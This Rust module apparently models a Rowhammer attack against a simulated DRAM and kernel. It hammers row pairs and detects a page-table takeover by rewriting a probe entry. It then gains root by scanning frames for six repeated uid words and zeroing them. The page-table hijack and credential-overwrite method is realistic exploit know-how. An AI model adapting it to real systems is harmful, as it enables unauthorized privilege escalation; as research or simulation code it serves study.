//! Hammer loop, page-table takeover check and cred search.

use std::collections::BTreeSet;

use rand::Rng;
use serde::{Deserialize, Serialize};
use thiserror::Error;

use crate::buddy::Owner;
use crate::dram::{Dram, DramError, HammerMode};
use crate::os::{DoubleOwnedBuffer, Kernel, OsError, PteEntry, CRED_IDS, ENTRIES_PER_PT, MARKER, PROBE_PTE};
use crate::timing::{select_hammer_pair, ChannelModel, TimingError};
use crate::PAGE_SIZE;

/// Entry of the candidate page table that the probe rewrites.
pub const PROBE_INDEX: u64 = 1;

#[derive(Debug, Error)]
pub enum ExploitError {
    #[error(transparent)]
    Os(#[from] OsError),
    #[error(transparent)]
    Dram(#[from] DramError),
    #[error(transparent)]
    Timing(#[from] TimingError),
    #[error("no verified cred page for pid {0} after scanning {1} frames")]
    CredNotFound(u32, u64),
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Status {
    None,
    FlippableOnly,
    KernelPrivilege,
    RootPrivilege,
}

impl Status {
    pub fn as_str(self) -> &'static str {
        match self {
            Status::None => "none",
            Status::FlippableOnly => "flippable_only",
            Status::KernelPrivilege => "kernel_privilege",
            Status::RootPrivilege => "root_privilege",
        }
    }
}

/// A round in which at least one cell fired.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RoundRecord {
    pub round: u64,
    pub pair: (u64, u64),
    pub flips: u64,
    pub changed: u64,
    pub pt_changed: u64,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ExploitOutcome {
    pub status: Status,
    pub va: Option<u64>,
    pub vb: Option<u64>,
    /// Cells that fired.
    pub flips: u64,
    /// Fired cells that changed stored data.
    pub changed: u64,
    /// Changed bits that landed in sprayed page tables.
    pub pt_flips: u64,
    pub rounds: u64,
    pub pair_attempts: u64,
    pub cap_exceeded: bool,
    pub cred_pfn: Option<u64>,
    pub decoys_restored: u32,
    pub log: Vec<RoundRecord>,
}

impl Default for ExploitOutcome {
    fn default() -> Self {
        ExploitOutcome {
            status: Status::None,
            va: None,
            vb: None,
            flips: 0,
            changed: 0,
            pt_flips: 0,
            rounds: 0,
            pair_attempts: 0,
            cap_exceeded: false,
            cred_pfn: None,
            decoys_restored: 0,
            log: Vec::new(),
        }
    }
}

impl ExploitOutcome {
    /// Status only ever moves up.
    pub fn raise(&mut self, status: Status) {
        self.status = self.status.max(status);
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct HammerLoopConfig {
    pub rounds_cap: u64,
    pub reps_per_round: u64,
    pub pair_attempt_cap: u64,
}

impl Default for HammerLoopConfig {
    fn default() -> Self {
        HammerLoopConfig { rounds_cap: 1000, reps_per_round: 1_000_000, pair_attempt_cap: 10_000 }
    }
}

/// Hammer DRSB pairs from the buffer, verifying after every round that
/// changed a page table or file page, until a page table is taken over or the cap is hit.
/// With `pid` set, a takeover is followed by the cred search.
pub fn hammer_loop<R: Rng + ?Sized>(
    kernel: &mut Kernel,
    dram: &mut Dram,
    buffer: &DoubleOwnedBuffer,
    channel: &ChannelModel,
    config: &HammerLoopConfig,
    pid: Option<u32>,
    rng: &mut R,
) -> Result<ExploitOutcome, ExploitError> {
    let mut out = ExploitOutcome::default();
    let pt_pfns: BTreeSet<u64> = kernel.region().pt_pages.iter().map(|b| b.base_pfn).collect();
    while out.rounds < config.rounds_cap {
        out.rounds += 1;
        let pair = match select_hammer_pair(kernel.geometry(), buffer, channel, config.pair_attempt_cap, rng) {
            Ok(p) => p,
            Err(TimingError::AttemptCap(n)) => {
                out.pair_attempts += n;
                continue;
            }
            Err(e) => return Err(e.into()),
        };
        out.pair_attempts += pair.attempts;
        let flips = dram.hammer(&[pair.phys.0, pair.phys.1], config.reps_per_round, HammerMode::SingleSided, rng)?;
        let mut rec = RoundRecord { round: out.rounds, pair: pair.phys, flips: flips.len() as u64, changed: 0, pt_changed: 0 };
        // Only page tables and file pages decide what the scan sees.
        let mut relevant = false;
        for f in &flips {
            if kernel.apply_flip(f) {
                rec.changed += 1;
                let pfn = f.phys_addr / PAGE_SIZE;
                if pt_pfns.contains(&pfn) {
                    rec.pt_changed += 1;
                    relevant = true;
                } else if kernel.buddy.block_containing(pfn).is_some_and(|b| b.owner == Owner::TmpFile) {
                    relevant = true;
                }
            }
        }
        out.flips += rec.flips;
        out.changed += rec.changed;
        out.pt_flips += rec.pt_changed;
        if rec.pt_changed > 0 {
            out.raise(Status::FlippableOnly);
        }
        if rec.flips > 0 {
            out.log.push(rec);
        }
        // Rescheduling between rounds reloads the TLB.
        kernel.flush_tlb();
        if !relevant {
            continue;
        }
        if let Some((va, vb)) = verify_and_take_pt(kernel) {
            out.va = Some(va);
            out.vb = Some(vb);
            out.raise(Status::KernelPrivilege);
            if let Some(pid) = pid {
                if let Ok(e) = escalate_root(kernel, va, vb, pid) {
                    out.cred_pfn = Some(e.cred_pfn);
                    out.decoys_restored = e.decoys_restored;
                    out.raise(Status::RootPrivilege);
                }
            }
            return Ok(out);
        }
    }
    out.cap_exceeded = true;
    Ok(out)
}

/// Look for a sprayed page whose translation now lands on a page table:
/// rewrite its entry 1 to map frame 0 and watch for a second sprayed page,
/// at the same index of some page table, that changes. Pages that were
/// already off-marker before the probe cannot serve as the witness.
/// Returns `(Va, Vb)` as virtual page indices of the spray region.
pub fn verify_and_take_pt(kernel: &mut Kernel) -> Option<(u64, u64)> {
    let pages = kernel.region().pages();
    let suspects: BTreeSet<u64> = kernel.scan_markers().into_iter().collect();
    for &idx1 in &suspects {
        let Ok(old_pte) = kernel.read_virt_u64(idx1, PROBE_INDEX * 8) else {
            continue;
        };
        if kernel.write_virt_u64(idx1, PROBE_INDEX * 8, PROBE_PTE).is_err() {
            continue;
        }
        kernel.flush_tlb();
        let mut idx2 = PROBE_INDEX;
        while idx2 < pages {
            if idx2 != idx1
                && !suspects.contains(&idx2)
                && matches!(kernel.read_virt_u64(idx2, 0), Ok(v) if v != MARKER)
            {
                return Some((idx1, idx2));
            }
            idx2 += ENTRIES_PER_PT;
        }
        let _ = kernel.write_virt_u64(idx1, PROBE_INDEX * 8, old_pte);
        kernel.flush_tlb();
    }
    None
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Escalation {
    pub cred_pfn: u64,
    pub decoys_restored: u32,
    pub frames_scanned: u64,
}

/// Point `va`'s probe entry at every frame in ascending order and search the
/// page seen through `vb` for six consecutive copies of the caller's uid.
pub fn escalate_root(kernel: &mut Kernel, va: u64, vb: u64, pid: u32) -> Result<Escalation, ExploitError> {
    let uid = kernel.getuid(pid)?;
    let mut decoys = 0;
    let mut scanned = 0;
    for pfn in 0..kernel.mem.total_pages() {
        // Frames never written read as zero and cannot hold a non-zero pattern.
        if uid != 0 && kernel.mem.page(pfn).is_none() {
            continue;
        }
        scanned += 1;
        kernel.write_virt_u64(va, PROBE_INDEX * 8, PteEntry::new(pfn, true, true, true).raw())?;
        kernel.flush_tlb();
        let mut words = Vec::with_capacity((PAGE_SIZE / 4) as usize);
        for i in 0..PAGE_SIZE / 8 {
            let w = kernel.read_virt_u64(vb, i * 8)?;
            words.push(w as u32);
            words.push((w >> 32) as u32);
        }
        let mut start = 0;
        while start + CRED_IDS <= words.len() {
            if words[start..start + CRED_IDS].iter().all(|&w| w == uid) {
                let off = start as u64 * 4;
                kernel.write_virt_u32(vb, off, 0)?;
                if kernel.getuid(pid)? == 0 {
                    return Ok(Escalation { cred_pfn: pfn, decoys_restored: decoys, frames_scanned: scanned });
                }
                kernel.write_virt_u32(vb, off, uid)?;
                decoys += 1;
                start += CRED_IDS;
            } else {
                start += 1;
            }
        }
    }
    Err(ExploitError::CredNotFound(pid, scanned))
}

/// Oracle over raw page-table state: some sprayed page maps a sprayed page
/// table whose probe entry translates a different sprayed page.
pub fn controllable_page_table(kernel: &Kernel) -> Option<(u64, u64)> {
    let region = kernel.region();
    let pt_index: std::collections::BTreeMap<u64, u64> =
        region.pt_pages.iter().enumerate().map(|(i, b)| (b.base_pfn, i as u64)).collect();
    for a in 0..region.pages() {
        let pte = kernel.walk(a)?;
        if !(pte.present() && pte.user() && pte.writable()) {
            continue;
        }
        if let Some(&j) = pt_index.get(&pte.pfn()) {
            let b = j * ENTRIES_PER_PT + PROBE_INDEX;
            if b != a {
                return Some((a, b));
            }
        }
    }
    None
}

/// Whether the frame holds a sprayed page table.
pub fn is_page_table(kernel: &Kernel, pfn: u64) -> bool {
    kernel.buddy.block_containing(pfn).is_some_and(|b| b.owner == Owner::PageTable)
}
